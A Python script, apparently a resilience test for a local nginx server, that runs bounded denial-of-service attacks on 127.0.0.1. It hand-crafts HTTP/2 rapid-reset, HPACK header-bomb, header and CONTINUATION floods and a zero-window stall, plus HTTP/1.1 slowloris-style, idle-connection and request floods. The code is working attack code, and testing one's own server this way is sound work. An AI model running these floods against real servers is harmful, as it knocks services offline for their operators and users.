#!/usr/bin/python3
"""
What somebody with one machine can do to a web server over TLS, for some seconds.

    attacks.py NAME PORT SECONDS

Prints as JSON what it has done. Each attack is bounded in how much it sends; the HTTP/2 ones write
their frames by hand, for no library would. What nginx ends is begun anew.
"""

import contextlib
import functools
import itertools
import json
import re
import resource
import socket
import ssl
import struct
import sys
import time

ADDRESS = "127.0.6.1"  # a client of its own to every limit
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
WINDOW_SIZE = 4
IDLE_CONNECTIONS = 2000


@functools.cache
def context_for(protocols):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(protocols)
    return context


class Connection:
    """Sends without waiting, and throws away what comes."""

    def __init__(self, port, *protocols):
        plain = socket.create_connection(("127.0.0.1", port), 10, (ADDRESS, 0))
        self.tls = context_for(protocols).wrap_socket(plain)
        self.received = b""  # the last of it

    def send(self, data):
        self.tls.settimeout(2)
        self.tls.sendall(data)
        self.read()

    def read(self):
        """Whatever is there already."""
        self.tls.setblocking(False)
        self.received = b""
        with contextlib.suppress(ssl.SSLWantReadError):
            while part := self.tls.recv(65536):
                self.received += part
            raise ConnectionResetError("closed")

    def close(self):
        self.tls.close()


# --- HTTP/2, RFC 9113 and RFC 7541 ----------------------------------------------------------------

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def length(number):
    """Of a string that is not Huffman's, with a prefix of 7 bits."""
    if number < 127:
        return bytes([number])
    number, parts = number - 127, [127]
    while number > 127:
        parts.append(number % 128 + 128)
        number //= 128
    return bytes([*parts, number])


def text(value):
    return length(len(value)) + value


GET = b"\x82\x87\x01" + text(b"localhost") + b"\x04" + text(b"/?name=Eve")


def http2(port, settings=b""):
    connection = Connection(port, "h2")
    connection.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
    return connection


def streams():
    return itertools.count(1, 2)


def reset(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", 8))


def bomb(stream):
    """A field of 3 kB that is sent once, and then meant 4,000 times in a byte each."""
    field = b"\x40" + text(b"x") + text(b"y" * 3000) + b"\xbe" * 4000
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + field)


def large(stream):
    """Fields of 8 kB in all, which are taken."""
    fields = b"".join(b"\x00" + text(b"x%d" % n) + text(b"y" * 1000) for n in range(8))
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + fields)


def endless(payload, times):
    def send(stream):
        return frame(HEADERS, END_STREAM, stream, GET) + times * frame(
            CONTINUATION, 0, stream, payload)
    return send


def http2_flood(port, until, piece, batch, rate):
    """
    `rate` pieces a second, `batch` at a time on one of four connections. One that nginx cut short,
    for it closed the connection, was a piece all the same.
    """
    done = {"pieces": 0, "connections": 0}
    began, held = time.monotonic(), [None] * 4
    for turn in itertools.cycle(range(len(held))):
        if time.monotonic() > until:
            return done
        if done["pieces"] > (time.monotonic() - began) * rate:
            time.sleep(0.002)
            continue
        try:
            if held[turn] is None:
                held[turn] = http2(port), streams()
                done["connections"] += 1
            connection, numbers = held[turn]
            done["pieces"] += batch
            connection.send(b"".join(piece(next(numbers)) for _ in range(batch)))
        except OSError:
            held[turn] = None


def rapid_reset(port, until):
    return http2_flood(port, until, reset, batch=100, rate=10_000)


def header_bomb(port, until):
    return http2_flood(port, until, bomb, batch=1, rate=500)


def header_flood(port, until):
    return http2_flood(port, until, large, batch=4, rate=2_500)


def continuation_flood(port, until):
    field = b"\x00" + text(b"x") + text(b"y" * 16_000)
    return http2_flood(port, until, endless(field, 64), batch=1, rate=400)


def empty_continuation_flood(port, until):
    """Frames without a payload, which no limit on sizes counts."""
    return http2_flood(port, until, endless(b"", 5_000), batch=1, rate=200)


def closed_window(port, until):
    """Answers that may not be sent: 32 streams on each of 60 connections."""
    held = []
    for _ in range(60):
        connection = http2(port, struct.pack(">HI", WINDOW_SIZE, 0))
        with contextlib.suppress(OSError):
            connection.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)
                                     for stream in itertools.islice(streams(), 32)))
        held.append(connection)
    time.sleep(max(0.0, until - time.monotonic()))
    return {"pieces": 32 * len(held), "connections": len(held)}


# --- HTTP/1.1 -------------------------------------------------------------------------------------

ASK = b"GET /?name=Eve HTTP/1.1\r\nHost: localhost\r\n\r\n"


def idle(port, until):
    """Half of them do not so much as begin TLS; the others have asked once, and may stay."""
    held = []
    for number in range(IDLE_CONNECTIONS // 2):
        held.append(socket.create_connection(("127.0.0.1", port), 10, ("127.0.7.1", 0)))
        held.append(Connection(port))
        held[-1].send(ASK)
        if time.monotonic() > until:
            break
    time.sleep(max(0.0, until - time.monotonic()))
    return {"pieces": len(held), "connections": len(held)}


def all_places(port, until):
    """Without TLS: more slow headers than nginx has places, from one address."""
    held, refused = [], 0
    for _ in range(9_000):
        try:
            held.append(socket.create_connection(("127.0.0.1", port), 10, (ADDRESS, 0)))
            held[-1].send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        except OSError:
            refused += 1
        if time.monotonic() > until:
            break
    time.sleep(max(0.0, until - time.monotonic()))
    return {"pieces": len(held), "refused": refused}


def flood(port, until, rate=1000):
    """A hundred times what one client may ask."""
    done = {"pieces": 0, "connections": 0, "served": 0, "refused": 0}
    began, held = time.monotonic(), [None] * 8
    for turn in itertools.cycle(range(len(held))):
        if time.monotonic() > until:
            return done
        batch = min(50, int((time.monotonic() - began) * rate) - done["pieces"])
        if batch <= 0:
            time.sleep(0.005)
            continue
        try:
            if held[turn] is None:
                held[turn] = Connection(port)
                done["connections"] += 1
            held[turn].send(ASK * batch)
            done["pieces"] += batch
            statuses = re.findall(rb"HTTP/1.1 (\d+)", held[turn].received)
            done["served"] += statuses.count(b"200")
            done["refused"] += statuses.count(b"429")
        except OSError:
            held[turn] = None


ATTACKS = {each.__name__: each for each in
           (idle, all_places, flood, rapid_reset, header_flood, header_bomb, continuation_flood,
            empty_continuation_flood, closed_window)}


def main(name, port, seconds):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 10_000), most))
    print(json.dumps(ATTACKS[name](int(port), time.monotonic() + float(seconds))))


if __name__ == "__main__":
    main(*sys.argv[1:])
